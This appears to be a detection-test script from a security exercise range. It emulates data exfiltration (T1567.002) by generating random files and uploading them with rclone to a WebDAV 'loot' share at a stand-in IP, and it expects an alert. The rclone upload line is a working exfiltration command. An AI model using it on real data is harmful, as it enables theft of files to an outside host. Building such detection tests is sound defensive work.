# SPDX-License-Identifier: Apache-2.0
# what: a folder copied out with rclone
# technique: T1567.002
# from: fs1
# to: inet
# account: -
# outcome: success
# must: alert upload
. "$RANGE_HERE/item.sh"
mkdir -p "$HOME/out"
for i in 1 2 3 4 5 6 7 8; do head -c 8000000 /dev/urandom >"$HOME/out/$i.zip"; done
rclone copy --config /dev/null "$HOME/out" :webdav:loot --webdav-url http://198.51.100.20:8080
rm -r "$HOME/out"
